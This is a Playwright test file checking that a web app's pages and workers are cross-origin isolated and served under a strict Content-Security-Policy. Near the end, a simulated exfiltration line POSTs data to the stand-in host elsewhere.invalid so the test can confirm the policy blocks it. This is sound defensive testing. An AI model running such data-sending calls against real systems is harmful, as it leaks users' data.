import { expect, test } from '@playwright/test';

test('the page and its workers are isolated and under the strict policy', async ({ page }) => {
  const engine = page.waitForEvent('worker');
  await page.goto('.');
  await engine;
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
  const response = await page.request.get('.');
  expect(response.headers()['content-security-policy']).toContain("default-src 'none'");
  expect(response.headers()['content-security-policy']).toContain(
    "connect-src 'self' https://huggingface.co https://*.huggingface.co https://*.hf.co https://raw.githubusercontent.com;",
  );
  const workers = page.workers().map((worker) => worker.url());
  expect(workers.length).toBeGreaterThan(0);
  for (const url of workers) {
    const script = await page.request.get(url);
    expect(script.headers()['content-security-policy'], url).toBe(response.headers()['content-security-policy']);
  }
  // A page that tried to send a filing somewhere could not.
  const refused = await page.evaluate(() => {
    const seen = new Promise<string>((resolve) =>
      document.addEventListener('securitypolicyviolation', (event) => resolve(event.violatedDirective), { once: true }),
    );
    return Promise.race([
      fetch('https://elsewhere.invalid/', { method: 'POST', body: 'filing' }).then(
        () => 'sent',
        () => seen,
      ),
      seen,
    ]);
  });
  expect(refused).toBe('connect-src');
});
